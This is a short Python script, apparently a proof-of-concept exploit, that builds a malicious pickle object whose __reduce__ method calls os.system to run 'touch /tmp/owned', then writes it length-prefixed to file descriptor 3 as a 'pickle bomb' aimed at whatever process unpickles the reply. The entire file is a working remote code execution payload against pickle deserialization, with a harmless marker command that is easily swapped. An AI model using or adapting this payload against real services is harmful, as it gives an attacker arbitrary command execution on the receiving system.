"""Write a pickle bomb straight into the reply socket."""
import os, pickle, struct
class Boom:
    def __reduce__(self): return (os.system, ("touch /tmp/owned",))
data = pickle.dumps(Boom())
os.write(3, struct.pack("<Q", len(data)) + data)
